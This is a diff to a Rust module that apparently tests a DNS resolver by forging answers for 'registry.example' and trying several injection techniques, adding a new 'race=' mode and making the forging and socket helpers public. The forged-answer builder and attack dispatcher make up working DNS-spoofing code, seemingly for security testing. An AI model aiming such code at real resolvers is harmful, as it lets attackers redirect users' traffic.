@@ -5,6 +5,7 @@
 //! program itself, as an answer of the resolver. Whether it has won, a connect tells afterwards: what fails
 //! on the way is not told.
 
+use crate::race;
 use std::io::{Read, Write};
 use std::net::{Ipv4Addr, SocketAddr, TcpStream, UdpSocket};
 use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
@@ -18,6 +19,7 @@ const PEEK: i32 = libc::MSG_PEEK;
 pub fn attack(how: &str, address: &str) -> std::io::Result<String> {
     let target: Ipv4Addr = address.parse().expect("an address");
     let tried = match how {
+        how if how.starts_with("race=") => race::race(target, how[5..].parse().unwrap_or(1)),
         "echo" => echo(target),
         "peek-offset" => peek_offset(target),
         "peek-offset-of-stream" => peek_offset_of_stream(target),
@@ -37,7 +39,7 @@ pub fn attack(how: &str, address: &str) -> std::io::Result<String> {
 }
 
 /// An answer that gives the address for `registry.example`.
-fn forged(id: [u8; 2], target: Ipv4Addr) -> Vec<u8> {
+pub fn forged(id: [u8; 2], target: Ipv4Addr) -> Vec<u8> {
     let mut bytes = id.to_vec();
     bytes.extend([0x81, 0x80, 0, 1, 0, 1, 0, 0, 0, 0]);
     bytes.extend(b"\x08registry\x07example\0\0\x01\0\x01");
@@ -47,7 +49,7 @@ fn forged(id: [u8; 2], target: Ipv4Addr) -> Vec<u8> {
 }
 
 /// A question for a name of these labels beneath `nx.test`.
-fn question(labels: &[&[u8]]) -> Vec<u8> {
+pub fn question(labels: &[&[u8]]) -> Vec<u8> {
     let mut bytes = vec![0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
     for label in labels {
         bytes.push(label.len() as u8);
@@ -57,7 +59,7 @@ fn question(labels: &[&[u8]]) -> Vec<u8> {
     bytes
 }
 
-fn framed(message: &[u8]) -> Vec<u8> {
+pub fn framed(message: &[u8]) -> Vec<u8> {
     [&(message.len() as u16).to_be_bytes()[..], message].concat()
 }
 
@@ -69,12 +71,12 @@ fn done(result: isize) -> std::io::Result<usize> {
     usize::try_from(result).map_err(|_| std::io::Error::last_os_error())
 }
 
-fn receive(fd: i32, buffer: &mut [u8], flags: i32) -> std::io::Result<usize> {
+pub fn receive(fd: i32, buffer: &mut [u8], flags: i32) -> std::io::Result<usize> {
     // SAFETY: the buffer is valid for writing its length.
     done(unsafe { libc::recv(fd, buffer.as_mut_ptr().cast(), buffer.len(), flags) })
 }
 
-fn set_option<T>(fd: i32, level: i32, name: i32, value: T) -> std::io::Result<usize> {
+pub fn set_option<T>(fd: i32, level: i32, name: i32, value: T) -> std::io::Result<usize> {
     let size = size_of::<T>() as u32;
     // SAFETY: the kernel reads `size` bytes of the value, which has them.
     done(unsafe { libc::setsockopt(fd, level, name, (&raw const value).cast(), size) } as isize)
